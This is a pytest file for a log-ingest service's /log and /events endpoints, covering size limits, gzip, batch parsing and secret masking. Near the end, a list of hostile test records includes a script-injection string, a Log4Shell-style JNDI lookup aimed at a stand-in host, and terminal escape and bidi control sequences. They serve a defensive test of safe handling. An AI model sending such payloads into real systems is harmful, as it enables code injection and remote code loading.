import gzip
import json
import zlib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
from fastapi import FastAPI
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.responses import PlainTextResponse
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from reqscope.bus import EventBus
from reqscope.bus.logentry import VERSION
from reqscope.service import Redaction, Settings
from reqscope.service.ingest import MAX_BATCH, MAX_BODY, DataPlane
from reqscope.service.pipeline import Pipeline
from reqscope.service.query import query_router

from .conftest import MASK, Site, published, read_all, until

pytestmark = pytest.mark.anyio

NDJSON = {"content-type": "application/x-ndjson"}
GZIP = {"content-encoding": "gzip"}


@pytest.fixture(scope="module", params=["httptools", "h11"])
def parser(request: pytest.FixtureRequest) -> str:
    name: str = request.param
    return name


@pytest.fixture
def plane(bus: EventBus) -> ASGIApp:
    """The ingest routes of `bus`, in front of an application that says `app`."""
    return DataPlane(PlainTextResponse("app"), bus, Redaction())


async def in_chunks(body: bytes, size: int = 65_536) -> AsyncIterator[bytes]:
    for start in range(0, len(body), size):
        yield body[start : start + size]


def assert_problem(answer: httpx.Response, status: int, words: str) -> None:
    assert (answer.status_code, answer.headers["content-type"]) == (status, "application/problem+json")
    problem = answer.json()
    assert problem["status"] == status
    assert words in problem["detail"]


class TestLog:
    async def test_a_text_is_answered_with_its_place_on_the_bus(
        self, site: Site, plane: ASGIApp, bus: EventBus
    ) -> None:
        async with site.client(plane) as client:
            answer = await client.post("/log", content="grüße", headers={"content-type": "text/plain"})

        assert (answer.status_code, answer.headers["content-type"]) == (200, "application/json")
        assert answer.json() == {
            "status": "logged",
            "message": "API received: grüße",
            "seq": 1,
            "id": f"{bus.boot}-1",
        }

    async def test_what_was_posted_is_one_event_with_all_that_is_known(
        self, site: Site, plane: ASGIApp, bus: EventBus
    ) -> None:
        headers = {"authorization": "Bearer s3cret", "x-tenant": "7"}
        async with site.client(plane) as client:
            answer = await client.post("/log?token=s3cret&page=2", content=b'{"a": 1}', headers=headers)
        (event,) = await published(bus)

        assert (event.kind, event.method, event.path, event.route) == ("log", "POST", "/log", "/log")
        assert (event.query, event.status) == (b"token=" + MASK(b"s3cret") + b"&page=2", 200)
        assert event.client == "127.0.0.1"
        assert (event.scheme, event.http_version, event.error) == ("http", "1.1", None)
        assert (event.body, event.request_size) == (b'{"a": 1}', 8)
        assert event.response_size == len(answer.content)
        assert event.total is not None
        assert 0 < event.total < 20
        assert dict(event.request_headers)[b"authorization"] == b"Bearer " + MASK(b"s3cret")
        assert dict(event.request_headers)[b"x-tenant"] == b"7"

    @pytest.mark.guarantees("1", "29")
    @pytest.mark.parametrize(
        ("body", "echo"),
        [
            (b"", ""),
            (b'{"a": [1, 2]}', '{"a": [1, 2]}'),
            (b"\xff\x00\x01", "3 bytes"),
            (b"x" * 1_000, "x" * 1_000),
            (b"x" * 1_001, "x" * 1_000 + "… (1001 bytes)"),
            ("é" * 5_000).encode() and (("é" * 5_000).encode(), "é" * 1_000 + "… (10000 bytes)"),
            (b"\x1b[2J\x00\xe2\x80\xae", "\x1b[2J\x00\u202e"),
        ],
        ids=["empty", "JSON", "binary", "1000", "1001", "not ASCII", "controls"],
    )
    async def test_any_body_is_kept_byte_for_byte_and_echoed_as_far_as_it_is_text(
        self, site: Site, plane: ASGIApp, bus: EventBus, body: bytes, echo: str
    ) -> None:
        async with site.client(plane) as client:
            answer = await client.post("/log", content=body)
        (event,) = await published(bus)

        assert answer.json()["message"] == f"API received: {echo}"
        assert not set(answer.content) & {0x00, 0x1B}
        assert event.body == body

    @pytest.mark.guarantees("24")
    @pytest.mark.parametrize("streamed", [False, True])
    async def test_a_body_of_one_mebibyte_is_accepted_and_one_byte_more_is_not(
        self, site: Site, plane: ASGIApp, bus: EventBus, streamed: bool
    ) -> None:
        body = bytes(MAX_BODY)
        async with site.client(plane) as client:
            most = await client.post("/log", content=in_chunks(body) if streamed else body)
            more = await client.post("/log", content=in_chunks(body + b"x") if streamed else body + b"x")
        accepted, refused = await published(bus, 2)

        assert most.status_code == 200
        assert accepted.body == body
        assert_problem(more, 413, "larger than 1048576 bytes")
        assert (refused.kind, refused.status, refused.body) == ("request", 413, b"")

    @pytest.mark.guarantees("24", "53")
    async def test_a_body_that_says_it_is_huge_is_refused_without_being_sent(
        self, site: Site, plane: ASGIApp, bus: EventBus
    ) -> None:
        async with site.connection(plane) as connection:
            await connection.send(b"POST /log HTTP/1.1\r\nHost: x\r\nContent-Length: 1073741824\r\n\r\nfirst")
            answer = await read_all(connection)

        assert answer.startswith(b"HTTP/1.1 413 ")
        assert b"\r\nconnection: close\r\n" in answer.lower()
        assert b"application/problem+json" in answer
        (event,) = await published(bus)
        assert event.status == 413

    @pytest.mark.guarantees("60")
    async def test_a_client_that_asks_first_is_not_told_to_send_what_is_too_large(
        self, site: Site, plane: ASGIApp
    ) -> None:
        head = b"POST /log HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n"
        async with site.connection(plane) as connection:
            await connection.send(head % (MAX_BODY + 1))
            refused = await read_all(connection)
        async with site.connection(plane) as connection:
            await connection.send(head % 5)
            invited = await connection.receive()

        assert refused.startswith(b"HTTP/1.1 413 ")
        assert invited.startswith(b"HTTP/1.1 100 ")

    @pytest.mark.guarantees("24")
    @pytest.mark.parametrize("path", ["/log", "/events"])
    async def test_a_client_that_sends_all_of_what_is_too_large_gets_its_answer(
        self, site: Site, plane: ASGIApp, path: str
    ) -> None:
        async with site.client(plane) as client:
            answer = await client.post(path, content=bytes(48 << 20))

        assert_problem(answer, 413, "larger than")

    @pytest.mark.guarantees("F7")
    async def test_what_comes_after_the_end_is_not_said_to_be_logged(
        self, site: Site, plane: ASGIApp, bus: EventBus
    ) -> None:
        bus.close()
        async with site.client(plane) as client:
            logged = await client.post("/log", content=b"hello")
            batch = await client.post("/events", content=b"{}")

        assert (logged.status_code, batch.status_code) == (503, 503)

    @pytest.mark.parametrize("path", ["/log", "/events"])
    @pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND"])
    async def test_only_post_is_taken_and_the_refusal_says_so(
        self, site: Site, plane: ASGIApp, bus: EventBus, path: str, method: str
    ) -> None:
        async with site.client(plane) as client:
            answer = await client.request(method, path)
        (event,) = await published(bus)

        assert_problem(answer, 405, f"{path} takes POST only")
        assert answer.headers["allow"] == "POST"
        assert (event.kind, event.method, event.path, event.status) == ("request", method, path, 405)
        assert event.response_size == len(answer.content)

    @pytest.mark.guarantees("F29", "70")
    @pytest.mark.parametrize(
        "head", [b"Content-Length: 1000\r\n\r\nhalf", b"Transfer-Encoding: chunked\r\n\r\n4\r\nhalf\r\n"]
    )
    @pytest.mark.parametrize("path", ["/log", "/events"])
    async def test_a_client_that_goes_before_it_has_sent_everything_is_recorded_as_such(
        self, site: Site, plane: ASGIApp, bus: EventBus, path: str, head: bytes
    ) -> None:
        async with site.connection(plane) as connection:
            await connection.send(b"POST %s HTTP/1.1\r\nHost: x\r\n" % path.encode() + head)
        (event,) = await published(bus)

        assert (event.kind, event.path, event.status) == ("request", path, 499)
        assert (event.error, event.body) == ("client_disconnected", b"")

    async def test_a_hundred_at_once_are_a_hundred_events(self, site: Site, plane: ASGIApp, bus: EventBus) -> None:
        answers: dict[int, dict[str, Any]] = {}

        async def post(client: httpx.AsyncClient, number: int) -> None:
            answers[number] = (await client.post("/log", content=str(number))).json()

        async with site.client(plane) as client, anyio.create_task_group() as tasks:
            for number in range(100):
                tasks.start_soon(post, client, number)
        events = await published(bus, 100)

        assert {event.seq: event.body for event in events} == {
            answer["seq"]: b"%d" % number for number, answer in answers.items()
        }


class TestEvents:
    @pytest.mark.guarantees("71")
    @pytest.mark.parametrize(
        ("body", "content_type"),
        [
            (b'{"n":1}\n{"n":2}\n', "application/x-ndjson"),
            (b'{"n":1}\r\n\r\n{"n":2}', "application/jsonl; charset=utf-8"),
            (b'[{"n":1},{"n":2}]', "Application/JSON"),
            (b'[{"n":1},{"n":2}]', "text/plain"),
        ],
    )
    async def test_a_batch_is_accepted_in_any_of_its_forms(
        self, site: Site, plane: ASGIApp, bus: EventBus, body: bytes, content_type: str
    ) -> None:
        async with site.client(plane) as client:
            answer = await client.post("/events", content=body, headers={"content-type": content_type})
        events = await published(bus, 2)

        assert (answer.status_code, answer.json()) == (200, {"accepted": 2, "rejected": 0, "errors": []})
        assert [json.loads(event.body) for event in events] == [{"n": 1}, {"n": 2}]
        assert {(event.kind, event.client) for event in events} == {("record", "127.0.0.1")}

    async def test_a_secret_in_a_route_is_masked_before_anybody_counts_it(
        self, site: Site, plane: ASGIApp, bus: EventBus
    ) -> None:
        token = "ghp_" + "a1B2c3D4" * 4 + "e5F6"
        records = b"".join(b'{"http.route":"/reset/%s/{id}"}\n' % token.encode() for _ in range(3))
        async with site.client(plane) as client:
            await client.post("/events", content=records, headers=NDJSON)
        await published(bus, 3)

        routes = {event.route for event in bus.ring.since(0, sealed=True).events}
        assert routes == {f"/reset/{MASK(token.encode()).decode()}/{{id}}"}

    async def test_one_object_may_be_laid_out_over_lines(self, site: Site, plane: ASGIApp, bus: EventBus) -> None:
        headers = {"content-type": "application/json; charset=utf-8"}
        async with site.client(plane) as client:
            answer = await client.post("/events", content=b'{\n "url.path":\n "/x"\n}', headers=headers)
        (event,) = await published(bus)

        assert answer.json()["accepted"] == 1
        assert event.path == "/x"

    @pytest.mark.guarantees("66")
    async def test_a_batch_in_gzip_is_unpacked(self, site: Site, plane: ASGIApp, bus: EventBus) -> None:
        body = b'{"n":1}\n' * 2_000
        async with site.client(plane) as client:
            answer = await client.post(
                "/events", content=gzip.compress(body), headers={**NDJSON, "content-encoding": "GZip"}
            )

        assert answer.json()["accepted"] == 2_000
        assert bus.ring.last == 2_000

    @pytest.mark.guarantees("66", "68")
    @pytest.mark.parametrize(
        ("body", "status", "words"),
        [
            (gzip.compress(bytes(MAX_BATCH + 1)), 413, "larger than 8388608 bytes when unpacked"),
            (gzip.compress(bytes(256 << 20), 1), 413, "larger than 8388608 bytes when unpacked"),
            (gzip.compress(b'{"n":1}\n')[:-1], 400, "cut short"),
            (gzip.compress(b'{"n":1}\n')[:12], 400, "cut short"),
            (b"", 400, "cut short"),
            (gzip.compress(b'{"n":1}\n') + b"more", 400, "something follows"),
            (b'{"n":1}\n', 400, "not gzip"),
            (zlib.compress(b'{"n":1}\n'), 400, "not gzip"),
            (gzip.compress(b'{"n":1}\n')[:-8] + bytes(8), 400, "not gzip"),
        ],
        ids=["9 MiB", "256 MiB", "no end", "hardly begun", "empty", "followed", "plain", "deflate", "wrong checksum"],
    )
    async def test_gzip_that_is_not_right_is_refused(
        self, site: Site, plane: ASGIApp, bus: EventBus, body: bytes, status: int, words: str
    ) -> None:
        async with site.client(plane) as client:
            answer = await client.post("/events", content=body, headers=GZIP)
        (event,) = await published(bus)

        assert_problem(answer, status, words)
        assert (event.kind, event.path, event.status) == ("request", "/events", status)

    @pytest.mark.guarantees("67")
    @pytest.mark.parametrize("encoding", ["br", "compress", "gzip, gzip", "x"])
    async def test_an_encoding_that_is_not_known_is_refused_and_the_known_one_named(
        self, site: Site, plane: ASGIApp, encoding: str
    ) -> None:
        async with site.client(plane) as client:
            answer = await client.post("/events", content=b"{}", headers={"content-encoding": encoding})

        assert_problem(answer, 415, "Content-Encoding: gzip or deflate or zstd")
        assert answer.headers["accept-encoding"] == "gzip, deflate, zstd"

    @pytest.mark.guarantees("69")
    async def test_bad_lines_are_told_and_cost_no_good_one(self, site: Site, plane: ASGIApp, bus: EventBus) -> None:
        body = b'{"n":1}\nnonsense\n\n{"a":"\xff"}\n{"n":2}\n{"http.response.status_code":"200"}\n'
        async with site.client(plane) as client:
            answer = await client.post("/events", content=body, headers=NDJSON)
        events = await published(bus, 2)

        assert answer.status_code == 200
        assert (answer.json()["accepted"], answer.json()["rejected"]) == (2, 3)
        assert [error["line"] for error in answer.json()["errors"]] == [2, 4, 6]
        assert [event.body for event in events] == [b'{"n":1}', b'{"n":2}']

    @pytest.mark.guarantees("69")
    async def test_a_batch_without_one_good_record_is_a_problem_that_counts_them(
        self, site: Site, plane: ASGIApp, bus: EventBus
    ) -> None:
        async with site.client(plane) as client:
            answer = await client.post("/events", content=b"x\n" * 25, headers=NDJSON)
        (event,) = await published(bus)

        assert_problem(answer, 400, "none of the records could be read")
        assert (answer.json()["accepted"], answer.json()["rejected"]) == (0, 25)
        assert len(answer.json()["errors"]) == 10
        assert (event.kind, event.status) == ("request", 400)

    async def test_nothing_at_all_is_accepted_as_nothing(self, site: Site, plane: ASGIApp, bus: EventBus) -> None:
        async with site.client(plane) as client:
            answer = await client.post("/events", headers=NDJSON)

        assert (answer.status_code, answer.json()) == (200, {"accepted": 0, "rejected": 0, "errors": []})
        assert bus.ring.last == 0

    @pytest.mark.guarantees("69")
    async def test_ten_thousand_lines_are_accepted_and_one_more_is_not(
        self, site: Site, plane: ASGIApp, bus: EventBus
    ) -> None:
        async with site.client(plane) as client:
            most = await client.post("/events", content=b"\n".join([b"{}"] * 10_000), headers=NDJSON)
            more = await client.post("/events", content=b"\n".join([b"{}"] * 10_001), headers=NDJSON)

        assert most.json() == {"accepted": 10_000, "rejected": 0, "errors": []}
        assert_problem(more, 413, "send at most 10000 at a time")
        assert bus.ring.last == 10_001  # with the event of the request that was refused

    @pytest.mark.guarantees("69")
    async def test_a_batch_of_eight_mebibytes_is_accepted_and_one_byte_more_is_not(
        self, site: Site, plane: ASGIApp, bus: EventBus
    ) -> None:
        body = b'{"a":"' + b"x" * (MAX_BATCH - 8) + b'"}'
        async with site.client(plane) as client:
            most = await client.post("/events", content=in_chunks(body, 1 << 20), headers=NDJSON)
            more = await client.post("/events", content=in_chunks(body + b"\n", 1 << 20), headers=NDJSON)

        assert (len(body), most.status_code) == (8 << 20, 200)
        assert_problem(more, 413, "larger than 8388608 bytes")

    async def test_readers_get_their_turn_while_a_large_batch_is_published(self, site: Site, plane: ASGIApp) -> None:
        bus = EventBus(capacity=2_000)
        delivered = missed = 0

        async def read() -> None:
            nonlocal delivered, missed
            async with bus.subscribe(sealed=True) as reader:
                async for batch in reader:
                    delivered += len(batch.events)
                    missed += batch.missed

        async with anyio.create_task_group() as tasks:
            tasks.start_soon(read)
            async with site.client(DataPlane(PlainTextResponse("app"), bus, Redaction())) as client:
                await client.post("/events", content=b"\n".join([b"{}"] * 10_000), headers=NDJSON)
            bus.close()

        assert (delivered, missed) == (10_000, 0)


class TestWhatIsNotIngest:
    @pytest.mark.parametrize("path", ["/", "/log/", "/log/x", "/logs", "/events/1", "//log", "/LOG"])
    async def test_other_paths_are_the_applications(self, site: Site, plane: ASGIApp, bus: EventBus, path: str) -> None:
        async with site.client(plane) as client:
            answer = await client.post(f"{site.url}{path}", content=b"{}")

        assert answer.text == "app"
        assert bus.ring.last == 0

    @pytest.mark.parametrize("kind", ["websocket", "lifespan"])
    async def test_what_is_not_http_is_passed_on_untouched(self, bus: EventBus, kind: str) -> None:
        seen: list[object] = []

        async def app(scope: Scope, receive: Receive, send: Send) -> None:
            seen.extend((scope, receive, send))

        async def receive() -> Message:
            raise NotImplementedError

        async def send(message: Message) -> None:
            raise NotImplementedError

        scope = {"type": kind, "path": "/log"}
        await DataPlane(app, bus, Redaction())(scope, receive, send)

        assert all(one is other for one, other in zip(seen, (scope, receive, send), strict=True))


def scope_of(path: str, headers: dict[bytes, bytes]) -> Scope:
    return {
        "type": "http",
        "method": "POST",
        "path": path,
        "query_string": b"",
        "http_version": "1.1",
        "headers": [*headers.items()],
    }


async def answer_of(app: ASGIApp, scope: Scope, *messages: Message) -> tuple[int, bytes]:
    """Call an application as a server would, with these messages, and return its answer."""
    waiting, sent = iter(messages), list[Message]()

    async def receive() -> Message:
        return next(waiting)

    async def send(message: Message) -> None:
        sent.append(message)

    await app(scope, receive, send)
    start, body = sent
    return start["status"], body["body"]


BYTES = st.binary(max_size=120)
PIECES = st.sampled_from([b"\n", b"[", b"{}", b'{"a":1}', b'"', b"\\", b"\xff", b"\x00", b"x", b"}"])
BODIES = BYTES | st.lists(PIECES).map(b"".join)
HEADERS = st.sampled_from([{}, NDJSON, {"content-type": "application/json"}, GZIP])


@settings(max_examples=100, deadline=None)
@given(BODIES, HEADERS, st.booleans(), st.integers(1, 4))
async def test_no_body_is_answered_with_an_error_of_ours_and_every_line_is_accounted_for(
    body: bytes, headers: dict[str, str], packed: bool, pieces: int
) -> None:
    bus = EventBus()
    sent = gzip.compress(body) if packed and headers is GZIP else body
    size = len(sent) // pieces + 1
    chunks: list[Message] = [
        {"type": "http.request", "body": sent[at : at + size], "more_body": True} for at in range(0, len(sent), size)
    ]
    scope = scope_of("/events", {name.encode(): value.encode() for name, value in headers.items()})

    status, answer = await answer_of(
        DataPlane(PlainTextResponse("app"), bus, Redaction()), scope, *chunks, {"type": "http.request"}
    )

    told = json.loads(answer)
    assert status in (200, 400, 422)
    assert bus.ring.last == told.get("accepted", 0) + (status != 200)
    if "accepted" in told and not body.lstrip().startswith(b"["):
        whole = headers.get("content-type") == "application/json"
        lines = [line for line in ([body] if whole else body.split(b"\n")) if line.strip()]
        assert told["accepted"] + told["rejected"] == len(lines)


@pytest.mark.guarantees("18", "26")
@settings(max_examples=70, deadline=None)
@given(BYTES)
async def test_no_body_of_a_log_is_refused(body: bytes) -> None:
    bus = EventBus()
    plane = DataPlane(PlainTextResponse("app"), bus, Redaction())

    status, answer = await answer_of(plane, scope_of("/log", {}), {"type": "http.request", "body": body})

    assert (status, json.loads(answer)["seq"]) == (200, 1)
    assert bus.ring.since(0).events[0].body == body


@pytest.mark.guarantees("52")
@pytest.mark.parametrize(
    ("length", "status"), [(b"-1", 400), (b"x", 400), (b"", 400), (b"1" * 20, 413), (b"9" * 5_000, 413)]
)
async def test_a_length_that_is_none_or_past_all_bounds_is_refused_before_anything_is_read(
    bus: EventBus, length: bytes, status: int
) -> None:
    plane = DataPlane(PlainTextResponse("app"), bus, Redaction())

    assert (await answer_of(plane, scope_of("/log", {b"content-length": length})))[0] == status


# Every one is accepted. Whoever reads it afterwards must not be harmed.
RECORDS = [
    b'{"url.path":"\\u0000\\u001b]0;x\\u0007\\u009b2J","http.request.method":"\\r\\n"}',
    '{"url.path":"/\u202e\u2066\u2028\u2029\ufeff\x7f\x9b"}'.encode(),
    b'{"url.path":"<script>alert(1)</script>","client.address":"${jndi:ldap://x}"}',
    b'{"error.type":"' + b"x" * 100_000 + b'"}',
    b'{"n":1' + b"0" * 5_000 + b"}",
    b'{"duration":-1e308,"http.response.status_code":999}',
    b'{"a":' + b"[" * 63 + b"]" * 63 + b"}",
    b'{"a":"' + b"\\\\" * 1_000 + b'"}',
    '{"é":"😀\U0010ffff"}'.encode(),
    b'{"timestamp":"never","level":7,"event":[],"seq":-1,"id":null}',
]


@pytest.mark.guarantees("15", "20", "22", "31", "35", "36")
async def test_hostile_records_reach_the_api_and_the_log_as_the_text_they_are(site: Site, tmp_path: Path) -> None:
    log = tmp_path / "events.jsonl"
    pipeline = Pipeline(Settings(log="file", log_file=log))
    api = FastAPI()
    api.include_router(query_router(pipeline, dict))
    async with (
        pipeline.running(),
        site.client(DataPlane(api, pipeline.bus, pipeline.redaction)) as client,
    ):
        answer = await client.post("/events", content=b"\n".join(RECORDS), headers=NDJSON)
        assert answer.json() == {"accepted": len(RECORDS), "rejected": 0, "errors": []}
        for body in (b"\xff\xfe", b"\x1b[2J\x9b", b"", b"\xed\xa0\x80"):
            assert (await client.post("/log", content=body)).status_code == 200
        listed = (await client.get("/api/events", params={"after": 0})).json()["events"]
        details = [(await client.get(f"/api/events/{each['id']}")).json() for each in listed]
        await until(lambda: pipeline.sinks[0].statistics().written == len(listed), "every line to be written")

    lines = log.read_bytes().split(b"\n")
    assert lines.pop() == b""
    assert len(lines) == len(details) == len(RECORDS) + 4
    assert not set(b"".join(lines)) & {*range(0x20), 0x7F}
    for line, detail in zip(map(json.loads, lines), details, strict=True):
        detail.pop("http.request.headers", None)
        assert line.pop("schema") == VERSION
        assert line == detail
    assert [detail["body"] for detail in details[: len(RECORDS)]] == [record.decode() for record in RECORDS]
    assert [detail.get("body_base64") for detail in details[len(RECORDS) :]] == ["//4=", "G1sySps=", None, "7aCA"]


@pytest.mark.guarantees("82")
@pytest.mark.parametrize(
    "duration",
    [
        *("0", "-0.0", "-1", "1", "5e-324", "1e308", "-1e308", "null"),
        "1.7976931348623157e308",
    ],
)
async def test_statistics_survive_every_duration_that_is_let_in(site: Site, duration: str) -> None:
    pipeline = Pipeline(Settings(log="none"))
    api = FastAPI()
    api.include_router(query_router(pipeline, dict))
    async with pipeline.running(), site.client(DataPlane(api, pipeline.bus, pipeline.redaction)) as client:
        accepted = await client.post("/events", content=f'{{"duration":{duration}}}', headers=NDJSON)
        stats = await client.get("/api/stats")

    assert accepted.json()["accepted"] == 1
    assert stats.status_code == 200
    assert stats.json()["statistics"]["events"] == 1
